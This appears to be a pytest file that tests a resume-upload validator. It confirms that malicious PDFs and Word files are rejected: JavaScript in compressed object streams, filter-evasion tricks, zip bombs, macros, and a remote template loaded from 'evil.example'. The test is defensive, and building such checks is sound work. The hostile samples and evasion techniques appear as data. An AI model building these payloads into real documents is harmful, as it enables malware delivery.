"""Resumes as hostile input (issue #10, item 3): recognised by content, never by name; scripts,
embedded files, macros and zip bombs refused with a message that says what was wrong."""

import pytest
from django.core.exceptions import ValidationError

from hr.recruiting_resumes import DOCX_TYPE, PDF_TYPE, resume_inspect
from tests.hr.recruiting_helpers import (
    EXE,
    HTML,
    PDF,
    PDF_EMBEDDED,
    PDF_JAVASCRIPT,
    PDF_JAVASCRIPT_HEX_NAME,
    PDF_LAUNCH,
    SVG,
    docx,
    docx_bomb,
    pdf_object_stream,
)


def refusal(data: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        resume_inspect(data)
    return caught.value


def test_a_plain_pdf_and_a_plain_docx_are_accepted():
    assert resume_inspect(PDF).content_type == PDF_TYPE
    assert resume_inspect(docx()).content_type == DOCX_TYPE


def test_a_weasyprint_pdf_with_compressed_object_streams_is_accepted():
    """What the demo seeder (and many real tools) write: Flate streams are inflated and pass."""
    from hr.demo_recruiting import _demo_resume_pdf

    data = _demo_resume_pdf()
    assert b"/FlateDecode" in data
    assert resume_inspect(data).extension == ".pdf"


@pytest.mark.parametrize(
    ("data", "code", "words"),
    [
        (EXE, "resume_program", "program"),
        (HTML, "resume_type", "PDF or DOCX"),
        (SVG, "resume_type", "PDF or DOCX"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "resume_old_word", ".doc"),
        (b"", "resume_empty", "empty"),
        (PDF_JAVASCRIPT, "resume_pdf_script", "JavaScript"),
        (PDF_JAVASCRIPT_HEX_NAME, "resume_pdf_script", "JavaScript"),
        (PDF_EMBEDDED, "resume_pdf_embedded", "embedded files"),
        (PDF_LAUNCH, "resume_pdf_launch", "other programs"),
        (b"%PDF-1.4\n1 0 obj<<>>endobj\n", "resume_pdf_damaged", "incomplete"),
    ],
    ids=["exe", "html", "svg", "doc", "empty", "js", "js-hex", "embedded", "launch", "no-eof"],
)
def test_hostile_or_foreign_content_is_refused_with_a_message_naming_the_problem(data, code, words):
    error = refusal(data)
    assert error.code == code
    assert words in error.messages[0]


def test_javascript_hidden_in_a_compressed_object_stream_is_found():
    data = pdf_object_stream(b"2 0 <</S/JavaScript/JS(app.alert(1))>>")
    assert b"JavaScript" not in data  # only visible once inflated
    assert refusal(data).code == "resume_pdf_script"


def test_an_object_stream_packed_in_a_way_we_cannot_check_is_refused():
    error = refusal(pdf_object_stream(b"<~garbage~>", filters=b"/LZWDecode"))
    assert error.code == "resume_pdf_unreadable"
    assert "cannot check" in error.messages[0]


def test_a_docx_zip_bomb_is_refused_while_inflating():
    data = docx_bomb(60)
    assert len(data) < 1024 * 1024
    error = refusal(data)
    assert error.code == "resume_docx_bomb"
    assert "50 MB" in error.messages[0]


@pytest.mark.parametrize(
    "data",
    [
        docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        docx(
            content_types=b'<Types><Override PartName="/word/document.xml" ContentType="'
            b'application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
        ),
        docx({"word/activeX/activeX1.xml": b"<ax/>"}),
    ],
    ids=["vbaproject", "macro-content-type", "activex"],
)
def test_macros_in_a_word_document_are_refused(data):
    error = refusal(data)
    assert error.code == "resume_docx_macros"
    assert "macros" in error.messages[0]


def test_a_zip_that_is_no_word_document_is_refused():
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("evil.exe", EXE)
    assert refusal(buffer.getvalue()).code == "resume_docx_type"


def test_a_docx_with_too_many_parts_is_refused(settings):
    settings.RECRUITING_DOCX_MAX_MEMBERS = 10
    data = docx({f"word/media/{n}.xml": b"x" for n in range(20)})
    assert refusal(data).code == "resume_docx_members"


def test_an_oversized_file_is_refused(settings):
    data = PDF + b"%" * settings.RECRUITING_RESUME_MAX_BYTES
    error = refusal(data)
    assert error.code == "resume_too_large"
    assert "10 MB" in error.messages[0]


def test_a_flate_stream_cut_short_by_the_word_endstream_inside_it_is_refused():
    """A stored deflate block may hold the bytes ``endstream``; what follows it in the same
    stream (compressed script) would otherwise never be inflated and checked."""
    import struct
    import zlib

    decoy = b"endstream "
    script = b"2 0 <</S/JavaScript/JS(app.alert(1))>>"
    stored = b"\x00" + struct.pack("<HH", len(decoy), len(decoy) ^ 0xFFFF) + decoy
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    rest = packer.compress(script) + packer.flush()
    stream = b"\x78\x01" + stored + rest + struct.pack(">I", zlib.adler32(decoy + script))
    assert zlib.decompress(stream) == decoy + script
    data = pdf_object_stream(b"", packed=stream)
    assert b"JavaScript" not in data
    assert refusal(data).code == "resume_pdf_unreadable"


def test_a_stream_keyword_ending_in_a_lone_carriage_return_is_still_inflated():
    import zlib

    packed = zlib.compress(b"2 0 <</S/JavaScript/JS(x)>>")
    data = (
        b"%PDF-1.4\n1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\r"
        + packed
        + b"\rendstream endobj\ntrailer<<>>\n%%EOF\n"
    )
    assert refusal(data).code == "resume_pdf_script"


@pytest.mark.parametrize(
    "dictionary",
    [
        b"/Type/ObjStm/F#69lter/Fl#61teDecode",  # hex-escaped filter names
        b"/Type/ObjStm/Filter[/FlateDecode/FlateDecode]",  # packed twice
        b"/Type/ObjStm/Filter/Fl",  # the abbreviation some viewers accept
    ],
    ids=["hex-names", "twice", "abbreviated"],
)
def test_filters_written_to_slip_past_the_check_do_not(dictionary):
    import zlib

    packed = zlib.compress(b"2 0 <</S/JavaScript/JS(x)>>")
    if b"/FlateDecode/FlateDecode" in dictionary:
        packed = zlib.compress(packed)
    data = (
        b"%PDF-1.4\n1 0 obj<<"
        + dictionary
        + b">>stream\n"
        + packed
        + b"\nendstream endobj\ntrailer<<>>\n%%EOF\n"
    )
    assert b"JavaScript" not in data
    assert refusal(data).code in ("resume_pdf_script", "resume_pdf_unreadable")


def test_a_word_document_with_embedded_objects_is_refused():
    error = refusal(docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}))
    assert error.code == "resume_docx_embedded"


def test_a_word_document_loading_a_remote_template_is_refused_hyperlinks_are_not():
    remote = (
        b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/'
        b't.dotm" TargetMode="External"/></Relationships>'
    )
    error = refusal(docx({"word/_rels/settings.xml.rels": remote}))
    assert error.code == "resume_docx_remote"
    link = remote.replace(b"attachedTemplate", b"hyperlink")
    assert resume_inspect(docx({"word/_rels/document.xml.rels": link})).extension == ".docx"
